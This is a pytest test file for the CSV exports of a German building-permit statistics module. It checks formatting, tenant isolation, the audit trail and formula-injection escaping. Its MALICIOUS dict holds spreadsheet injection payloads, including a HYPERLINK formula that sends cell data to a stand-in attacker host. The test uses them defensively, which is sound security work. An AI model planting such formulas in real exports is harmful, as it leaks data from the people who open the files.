"""CSV exports: format for German spreadsheets, safe against formula injection, tenant-bound, audited."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.http import HttpResponse
from django.test import Client
from django.utils import timezone

from bauantrag.audit.models import AuditEvent
from bauantrag.audit.service import verify_tenant
from bauantrag.beteiligung.models import Beteiligung, Fachstelle
from bauantrag.cases.models import Case
from bauantrag.reports.events import ReportEvent
from tests.reports.conftest import Dataset
from tests.reports.helpers import moment

pytestmark = pytest.mark.django_db

PERIOD = {"von": "2025-01", "bis": "2025-06"}
MALICIOUS = {
    "A": '=HYPERLINK("http://ev.il/?"&A1;"x")',  # the field holds 40 characters (enforced on PostgreSQL)
    "B": "+1+1",
    "C": "-2+3",
    "D": "@SUM(1)",
    "E": "\t=1",
    "H": "\r=1",
}


def rows_of(response: HttpResponse) -> list[list[str]]:
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def number(value: str) -> float:
    return float(value.replace(",", "."))


def test_summary_export_is_a_german_spreadsheet_csv(admin_client: Client, dataset: Dataset) -> None:
    response = admin_client.get("/statistik/export.csv", PERIOD)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="statistik-musterstadt-2025-01-bis-2025-06.csv"'
    assert response["Cache-Control"] == "no-store"
    assert b'";"' in response.content and b"\r\n" in response.content  # quoted fields, semicolons, CRLF
    rows = rows_of(response)
    header, months, total = rows[0], rows[1:-1], rows[-1]
    assert [row[0] for row in months] == ["2025-01", "2025-02", "2025-03", "2025-04", "2025-05", "2025-06"]
    assert [int(row[1]) for row in months] == [2, 1, 2, 1, 0, 0]
    assert total[:5] == ["Gesamt", "6", "5", "3", "60,0"]
    column = {name: i for i, name in enumerate(header)}
    prefix = "Eingang → Vollständigkeit bestätigt"
    assert total[column[f"{prefix}: Anzahl"]] == "4"
    assert number(total[column[f"{prefix}: Median (Tage)"]]) == 7.0
    assert number(total[column[f"{prefix}: 90. Perzentil (Tage)"]]) == 19.6
    assert number(total[column[f"{prefix}: 90. Perzentil (Arbeitstage)"]]) == 14.8
    assert months[4][column[f"{prefix}: Median (Tage)"]] == ""  # no case in May: empty, not 0


def test_case_export_lists_aktenzeichen_dates_and_durations_without_personal_data(
    admin_client: Client, dataset: Dataset
) -> None:
    response = admin_client.get("/statistik/vorgaenge.csv", PERIOD)
    assert response.status_code == 200
    rows = rows_of(response)
    header = rows[0]
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert set(by_number) == {dataset.file_number(key) for key in "ABCDEH"}
    b = by_number[dataset.file_number("B")]
    assert b["Eingang"] == "2025-01-20" and b["Vollständig bestätigt"] == "2025-02-14" and b["Nachforderungen"] == "1"
    assert b["Eingang → Vollständigkeit bestätigt: Tage"] == "25,0"
    assert b["Eingang → Vollständigkeit bestätigt: Arbeitstage"] == "19"
    assert b["Eingang → Vollständigkeit bestätigt, davon bei der Antragstellerseite: Tage"] == "14,0"
    c = by_number[dataset.file_number("C")]
    assert c["Entscheidung oder Rücknahme"] == "2025-03-04"
    assert (c["Ergebnis"], c["Eingang → Entscheidung: Tage"]) == ("Genehmigt", "29,0")
    d = by_number[dataset.file_number("D")]
    assert d["Vollständig bestätigt"] == "" and d["Eingang → Vollständigkeit bestätigt: Tage"] == ""
    assert d["Frist Vollständigkeitsprüfung"] == "2025-03-17"
    text = response.content.decode("utf-8-sig")
    case = dataset.cases["A"]
    for personal in (case.vorhaben.bauherr_name, case.vorhaben.street, case.applicant.username,
                     case.applicant.last_name):  # fmt: skip
        assert personal not in text


def test_formula_injection_in_aktenzeichen_is_neutralised(admin_client: Client, dataset: Dataset) -> None:
    for key, value in MALICIOUS.items():
        Case.objects.filter(pk=dataset.cases[key].pk).update(file_number=value)
    rows = rows_of(admin_client.get("/statistik/vorgaenge.csv", PERIOD))
    exported = {row[0] for row in rows[1:]}
    assert exported == {"'" + value for value in MALICIOUS.values()}
    for value in exported:
        assert value[0] == "'"
    # The overdue list (D and E) carries the same protection.
    overdue = rows_of(admin_client.get("/statistik/ueberfaellig.csv", PERIOD))
    assert {row[1] for row in overdue[1:]} == {"'@SUM(1)", "'\t=1"}
    # Durations stay numbers (no quote in front of a number we computed).
    assert all(not cell.startswith("'") for row in rows[1:] for cell in row[1:])


def test_overdue_export(admin_client: Client, dataset: Dataset) -> None:
    response = admin_client.get("/statistik/ueberfaellig.csv")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="statistik-ueberfaellig-musterstadt-')
    rows = rows_of(response)
    assert rows[0] == ["Art", "Aktenzeichen", "Frist", "Seit", "Tage überschritten", "Arbeitstage überschritten",
                       "Fachstelle"]
    kinds = {row[1]: (row[0], row[2], row[3]) for row in rows[1:]}
    assert kinds == {
        dataset.file_number("D"): ("Vollständigkeitsprüfung (§ 71 Abs. 1 BauO NRW)", "2025-03-17", "2025-03-03"),
        dataset.file_number("E"): ("Nachforderung ohne Antwort", "2025-04-11", "2025-03-12"),
    }


def test_every_export_is_recorded_in_the_audit_trail(admin_client: Client, admin: object, dataset: Dataset) -> None:
    admin_client.get("/statistik/vorgaenge.csv", PERIOD)
    admin_client.get("/statistik/export.csv", PERIOD)
    events = list(AuditEvent.objects.filter(event=ReportEvent.REPORT_EXPORTED).order_by("seq"))
    assert [e.after["report"] for e in events] == ["cases", "summary"]
    first = events[0]
    assert first.actor == admin and first.tenant == dataset.cases["A"].tenant
    assert first.after == {"report": "cases", "from": "2025-01", "to": "2025-06", "rows": 6,
                           "filename": "statistik-vorgaenge-musterstadt-2025-01-bis-2025-06.csv"}  # fmt: skip
    assert verify_tenant(first.tenant) == []


def test_another_kommunes_export_holds_only_its_cases(dataset: Dataset) -> None:
    from bauantrag.accounts.models import Role
    from tests.conftest import login
    from tests.factories import UserFactory

    other = dataset.cases["F"].tenant
    client = login(Client(), UserFactory(tenant=other, role=Role.TENANT_ADMIN))
    rows = rows_of(client.get("/statistik/vorgaenge.csv", PERIOD))
    assert {row[0] for row in rows[1:]} == {dataset.file_number("F"), dataset.file_number("F2")}
    event = AuditEvent.objects.get(event=ReportEvent.REPORT_EXPORTED)
    assert event.tenant == other and event.chain == str(other.pk)


def test_overdue_beteiligungen_are_listed(admin_client: Client, clerk: Any, dataset: Dataset) -> None:
    beteiligung, fachstelle = Beteiligung, Fachstelle
    tenant, other = dataset.cases["C"].tenant, dataset.cases["F"].tenant
    station = fachstelle.objects.create(tenant=tenant, name="=Brandschutz()", kind="brandschutz")
    late = beteiligung.objects.create(tenant=tenant, case=dataset.cases["C"], fachstelle=station, message="x",
                                      deadline=dt.date(2025, 3, 5), requested_by=clerk,
                                      requested_at=moment(2025, 2, 5))  # fmt: skip
    beteiligung.objects.create(tenant=tenant, case=dataset.cases["H"], fachstelle=station, message="x",
                               deadline=dt.date(2025, 5, 20), requested_by=clerk, status="answered")  # fmt: skip
    theirs = fachstelle.objects.create(tenant=other, name="Fremd", kind="brandschutz")
    beteiligung.objects.create(tenant=other, case=dataset.cases["F"], fachstelle=theirs, message="x",
                               deadline=dt.date(2025, 3, 5), requested_by=clerk)  # fmt: skip
    rows = rows_of(admin_client.get("/statistik/ueberfaellig.csv"))
    listed = [row for row in rows[1:] if row[0] == "Beteiligung ohne Stellungnahme"]
    assert listed == [["Beteiligung ohne Stellungnahme", dataset.file_number("C"), "2025-03-05", "2025-02-05",
                       str((timezone.localdate() - dt.date(2025, 3, 5)).days), listed[0][5], "'=Brandschutz()"]]
    html = admin_client.get("/statistik/").content.decode()
    assert "Beteiligungen ohne Stellungnahme nach Ablauf der Frist (1)" in html
    assert late.case.file_number in html
